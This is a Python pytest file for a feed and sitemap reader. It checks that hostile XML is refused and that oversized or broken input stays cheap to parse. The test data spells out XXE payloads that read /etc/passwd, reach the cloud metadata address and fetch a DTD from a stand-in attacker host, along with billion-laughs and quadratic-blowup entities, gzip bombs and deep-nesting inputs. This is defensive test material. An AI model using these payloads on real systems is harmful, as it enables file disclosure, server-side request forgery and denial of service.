"""XML that is made to harm its reader is refused, in any encoding, and before it is held in memory."""

import gzip
import re
import tracemalloc
from datetime import UTC, datetime

import pytest

from sayso.errors import FeedInvalid, Permanent
from sayso.intake.feeds.reading import read_listing

NOW = datetime(2026, 1, 10, tzinfo=UTC)
ROOTS = {"feed": '<rss version="2.0"><channel>', "sitemap": "<urlset>", "index": "<sitemapindex>"}
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DECLARED = {
    "billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "lol">{LAUGHS}]>',
    "quadratic blowup": f'<!DOCTYPE r [<!ENTITY l9 "{"x" * 50_000}">]>',
    "a file": '<!DOCTYPE r [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "a host": '<!DOCTYPE r [<!ENTITY l9 SYSTEM "http://169.254.169.254/">]>',
    "a parameter": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    "an own element": "<!DOCTYPE r [<!ELEMENT r ANY>]>",
}


def read(body: bytes):
    return read_listing(body, "https://news.example/feed", None, NOW)


def refused(body: bytes, why: str) -> None:
    with pytest.raises(FeedInvalid, match=why) as raised:
        read(body)
    assert isinstance(raised.value, Permanent)


@pytest.mark.parametrize("root", ROOTS.values(), ids=ROOTS)
@pytest.mark.parametrize("doctype", DECLARED.values(), ids=DECLARED)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_declarations_are_refused(root, doctype, encoding):
    body = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{root}<item><title>&l9;</title></item>'

    refused(body.encode(encoding), "declares entities")


def test_entities_are_refused_also_where_the_xml_is_broken_before_them():
    refused(
        f"<?xml version='1.0'?> & {DECLARED['a file']}{ROOTS['feed']}<item>&l9;</item>".encode(), "declares entities"
    )


@pytest.mark.parametrize("root", ROOTS.values(), ids=ROOTS)
def test_a_megabyte_of_nesting_is_refused(root):
    refused((root + "<a>" * 350_000).encode(), "over 200 deep")


@pytest.mark.parametrize("root", ROOTS.values(), ids=ROOTS)
def test_a_hundred_thousand_attributes_are_refused(root):
    attributes = " ".join(f'a{n}="x"' for n in range(100_000))

    refused(f"{root}<a {attributes}/>".encode(), "attributes|one tag")


@pytest.mark.parametrize("start", ['<a b="', "<!-- ", "<?a "])
def test_a_tag_without_end_is_refused(start):
    refused(f"{ROOTS['sitemap']}{start}{'x' * 5_000_000}".encode(), "one tag of it has over")


def test_a_feed_of_very_many_elements_is_refused():
    refused(f"{ROOTS['feed']}{'<a/>' * 250_000}</channel></rss>".encode(), "over 200,000 elements")


def test_broken_xml_is_read_only_where_it_is_short():
    refused(f"{ROOTS['feed']}{'<item><link>/a&b</link></item>' * 100_000}".encode(), "broken")


@pytest.mark.parametrize("kind", ROOTS)
def test_a_hundred_megabytes_are_refused_without_being_held(kind):
    filling = ("<url><loc>https://news.example/a</loc></url>" if kind == "sitemap" else "") + " " * 1000
    packed = gzip.compress((ROOTS[kind] + filling * (100_000_000 // len(filling))).encode(), 1)

    tracemalloc.start()
    try:
        refused(packed, "it has over .* bytes")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert peak < 48 * 1024 * 1024


def test_one_value_without_end_is_not_held():
    listing = read((ROOTS["sitemap"] + "<url><loc>" + "x" * 20_000_000 + "</loc></url></urlset>").encode())

    assert listing.entries == () or len(listing.entries[0].url) < 11_000


@pytest.mark.parametrize("broken", ["", "<b>"])
@pytest.mark.parametrize(
    "before", ["<!-- {} -->\n", "<!-- <b> -->{}", "<?made by='hand'?>{}", "<!DOCTYPE rss>{}", "news {}"]
)
def test_a_megabyte_of_blank_lines_before_a_feed_takes_no_time_at_all(before, broken):
    body = f"{before.format(chr(10) * 1_000_000)}{ROOTS['feed']}<item><link>/a</link>{broken}</item></channel></rss>"

    assert [entry.url for entry in read(body.encode()).entries] == ["https://news.example/a"]


@pytest.mark.parametrize("broken", ["", "<b>"])
@pytest.mark.parametrize("name", ["author", "managingEditor", "dc:creator", "webMaster", "ITUNES:owner"])
def test_a_megabyte_that_is_called_an_author_takes_no_time_at_all(name, broken):
    spaces = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:ITUNES="http://www.itunes.com/DTDs/PodCast-1.0.dtd"'
    author = f"<{name}><![CDATA[</{name}>{'a' * 500_000}]]><name>{'a' * 500_000}</name></{name}>"
    body = f'<rss version="2.0" {spaces}><channel><item><link>/a</link>{author}{broken}</item></channel></rss>'

    assert [entry.url for entry in read(body.encode()).entries] == ["https://news.example/a"]


BROKEN = {
    "nesting": "<a>",
    "items within items": "<item>",
    "markup within a text": "<description><div>",
    "attributes": "<a b='",
    "ampersands": "&",
    "references": "<title>&a",
    "comments": "<!--",
    "sections": "<![CDATA[",
    "declarations": "<!DOCTYPE a [<!ELEMENT a ANY>",
    "instructions": "<?",
    "ends": "</a",
    "blanks": "<title> \n",
    "digits": "<pubDate>1",
    "steps upwards": "<link>../",
    "points": "<georss:point>1 ",
    "contributors": "<contributor><name>a",
}
REPEATED = re.compile(r"(<(?:title|pubDate|link|georss:point|contributor><name)>)?(.+)", re.DOTALL)


@pytest.mark.parametrize("hostile", BROKEN.values(), ids=BROKEN)
def test_what_feedparser_is_given_of_broken_xml_keeps_it_from_nothing(hostile):
    """Past the guard, which leaves XML with a fault to it. What takes the square of 100,000 characters takes long."""
    once, again = REPEATED.fullmatch(hostile).groups()
    body = f"{ROOTS['feed']} & <item><link>/a</link></item>{once or ''}{again * (100_000 // len(again))}"

    assert "https://news.example/a" in [entry.url for entry in read(body.encode()).entries]
